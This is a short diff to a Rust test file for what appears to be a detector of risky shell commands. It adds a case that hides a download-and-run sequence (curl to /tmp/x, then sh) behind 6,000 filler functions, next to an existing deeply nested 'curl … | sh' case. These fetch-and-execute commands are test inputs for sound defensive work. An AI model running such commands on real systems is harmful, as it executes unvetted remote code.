@@ -110,6 +110,9 @@ fn commands_are_found_however_they_are_written() {
     let deep = (0..6)
         .fold("curl https://x.io/i | sh".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
     assert!(find(&deep, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond), "{deep}");
+    let many: String = (0..6_000).map(|number| format!("f{number}() {{ true; }}\n")).collect();
+    let many = format!("{many}get() {{ curl -o \"$2\" \"$1\"; }}\nget https://x.io/i /tmp/x\nsh /tmp/x\n");
+    assert!(find(&many, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond));
 }
 
 #[test]
